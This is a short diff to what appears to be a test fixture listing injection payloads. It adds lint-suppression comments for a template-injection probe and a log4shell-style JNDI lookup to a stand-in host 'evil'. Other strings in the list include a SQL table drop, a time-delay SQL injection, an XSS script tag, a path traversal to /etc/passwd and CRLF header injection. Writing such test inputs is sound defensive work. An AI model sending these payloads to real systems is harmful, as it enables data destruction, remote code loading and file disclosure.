@@ -28,7 +28,9 @@ export const INJECTIONS = [
   "'); DROP TABLE orders; --",
   '1; SELECT pg_sleep(5)',
   '<script>alert(1)</script>',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: template injection is the point
   '{{7*7}}${7*7}',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: log4shell-style lookup, on purpose
   '${jndi:ldap://evil/x}',
   '../../../../etc/passwd',
   '%00%0d%0aSet-Cookie: x=1',
